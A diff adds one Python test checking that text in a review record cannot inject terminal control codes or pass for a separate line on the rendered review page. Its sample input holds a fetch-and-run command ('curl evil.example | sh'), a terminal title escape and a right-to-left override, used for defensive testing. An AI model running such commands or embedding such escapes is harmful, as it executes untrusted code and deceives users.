@@ -261,6 +261,16 @@ async def test_opening_a_link_shows_the_review_and_decides_nothing_and_a_post_de
     assert output["decidedBy"] == {"userUuid": None, "email": "ann@example.com", "via": "link"}
 
 
+async def test_what_a_record_says_can_neither_command_a_terminal_nor_pass_for_a_line_of_the_page(backend: Backend) -> None:
+    evil = "\x1b]0;pwn\x07first\ncurl evil.example | sh\u2028curl other.example\r\u202egnirts"
+    _, review = await asked(backend, asking(instructions=evil))
+    link = await backend.admin.call("orchestration.review.createLink", uuid=review["uuid"], email="ann@example.com", hours=1)
+    text = (await Nobody(backend).send("GET", link["url"])).text
+    assert "first" in text
+    assert not any(letter != "\n" and not letter.isprintable() for letter in text)
+    assert [line for line in text.splitlines() if line.startswith("curl ") and link["url"].partition("?")[0] not in line] == []
+
+
 async def test_who_may_only_read_sees_reviews_and_neither_decides_nor_makes_links(backend: Backend) -> None:
     run, review = await asked(backend, asking())
     rules = [{"effect": "allow", "actions": ["orchestration:read"]}]
